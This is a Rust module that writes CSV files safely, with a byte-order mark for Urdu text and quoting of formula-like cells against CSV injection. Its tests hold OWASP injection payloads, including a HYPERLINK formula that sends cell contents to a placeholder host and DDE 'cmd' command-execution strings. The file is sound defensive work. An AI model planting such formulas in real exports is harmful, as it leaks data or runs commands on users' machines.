//! The one way the app writes CSV (the reminder queue, the portability package's
//! tables): UTF-8 with a byte-order mark, so spreadsheet programs read Urdu right, and
//! every cell through [`cell`], so a spreadsheet does not run a stored value as a
//! formula (OWASP "CSV injection").

use std::borrow::Cow;

use crate::error::{AppError, AppResult};

/// A cell as written: a value a spreadsheet would take for a formula — one starting
/// with `=`, `+`, `-`, `@`, a tab or a carriage return — gets a leading `'`, which
/// spreadsheets read as "this is text". Left as they are:
/// - plain numbers (`-3`, `+7`, `-0.25`): a number cannot do anything, and a quote
///   would turn it into text that no longer adds up;
/// - phone numbers as the app writes them, a `+` and groups of digits
///   (`+92 300 1234567`): digits and spaces cannot make a function call, a cell
///   reference or a link to another program, so nothing can run; and a quote would be
///   seen, and copied with the number, by reception working through the reminder
///   list in any program but Excel. A phone with anything else after the `+`
///   (`+92-42-111`, which a spreadsheet would subtract) gets the quote.
pub fn cell(value: &str) -> Cow<'_, str> {
    let starts_like_a_formula = value.starts_with(['=', '+', '-', '@', '\t', '\r']);
    if starts_like_a_formula && !is_plain_number(value) && !is_phone_number(value) {
        Cow::Owned(format!("'{value}"))
    } else {
        Cow::Borrowed(value)
    }
}

/// An optional sign, digits, at most one decimal point.
fn is_plain_number(value: &str) -> bool {
    let digits = value.strip_prefix(['+', '-']).unwrap_or(value);
    let mut parts = digits.split('.');
    let whole = parts.next().unwrap_or_default();
    let fraction = parts.next().unwrap_or_default();
    parts.next().is_none()
        && !(whole.is_empty() && fraction.is_empty())
        && whole.chars().chain(fraction.chars()).all(|c| c.is_ascii_digit())
}

/// `+`, then groups of digits separated by single spaces.
fn is_phone_number(value: &str) -> bool {
    value.strip_prefix('+').is_some_and(|rest| {
        !rest.is_empty()
            && rest.split(' ').all(|group| !group.is_empty() && group.chars().all(|c| c.is_ascii_digit()))
    })
}

fn csv_error(e: csv::Error) -> AppError {
    // csv errors name positions, not the values written.
    AppError::internal(format!("csv: {e}"))
}

/// A CSV file being written: a header, then rows, every cell through [`cell`].
pub struct CsvTable {
    writer: csv::Writer<Vec<u8>>,
}

impl CsvTable {
    pub fn new(header: &[&str]) -> AppResult<CsvTable> {
        let mut table = CsvTable { writer: csv::Writer::from_writer(b"\xEF\xBB\xBF".to_vec()) };
        table.row(header)?;
        Ok(table)
    }

    pub fn row<I, S>(&mut self, cells: I) -> AppResult<()>
    where
        I: IntoIterator<Item = S>,
        S: AsRef<str>,
    {
        for value in cells {
            self.writer.write_field(cell(value.as_ref()).as_bytes()).map_err(csv_error)?;
        }
        self.writer.write_record(None::<&[u8]>).map_err(csv_error)
    }

    pub fn finish(self) -> AppResult<Vec<u8>> {
        self.writer.into_inner().map_err(|e| AppError::internal(format!("csv: {}", e.error())))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn cells_a_spreadsheet_would_run_get_a_quote() {
        let cases = [
            // OWASP's triggers.
            (
                "=HYPERLINK(\"https://x.example/?\"&A1,\"Click\")",
                "'=HYPERLINK(\"https://x.example/?\"&A1,\"Click\")",
            ),
            ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
            ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
            ("-2+3", "'-2+3"),
            ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
            ("\t=1+1", "'\t=1+1"),
            ("\r=1+1", "'\r=1+1"),
            ("-Ayesha", "'-Ayesha"),
            ("-", "'-"),
            ("+", "'+"),
            ("--", "'--"),
            ("-.", "'-."),
            ("-1.2.3", "'-1.2.3"),
            ("-1e5", "'-1e5"),
            ("+92-42-35761234", "'+92-42-35761234"),
            ("+92  300 1234567", "'+92  300 1234567"),
            ("+92 300 1234567 ", "'+92 300 1234567 "),
            ("+٩٢ ٣٠٠", "'+٩٢ ٣٠٠"),
            // Plain numbers and the app's phone numbers stay.
            ("-3", "-3"),
            ("+7", "+7"),
            ("-0.25", "-0.25"),
            ("-.5", "-.5"),
            ("+92 300 1234567", "+92 300 1234567"),
            ("+923001234567", "+923001234567"),
            // Anything else stays as it is.
            ("Amna Riaz", "Amna Riaz"),
            ("آمنہ ریاض", "آمنہ ریاض"),
            ("1+1", "1+1"),
            (" =1+1", " =1+1"),
            ("a\n=1+1", "a\n=1+1"),
            ("'=1", "'=1"),
            ("", ""),
            ("2026-12-07T05:00:00Z", "2026-12-07T05:00:00Z"),
        ];
        for (value, written) in cases {
            assert_eq!(cell(value), written, "{value:?}");
        }
    }

    #[test]
    fn a_table_reads_back_with_every_cell_through_the_rule() {
        let mut t = CsvTable::new(&["name", "note"]).unwrap();
        t.row(["=1+1", "says \"hi\", then\nleaves"]).unwrap();
        t.row(vec!["-3".to_string(), "@x".to_string()]).unwrap();
        let bytes = t.finish().unwrap();
        assert!(bytes.starts_with(b"\xEF\xBB\xBF"), "a byte-order mark");
        let mut r = csv::Reader::from_reader(&bytes[3..]);
        let rows: Vec<Vec<String>> =
            r.records().map(|x| x.unwrap().iter().map(str::to_string).collect()).collect();
        assert_eq!(rows, [vec!["'=1+1", "says \"hi\", then\nleaves"], vec!["-3", "'@x"]]);
    }
}
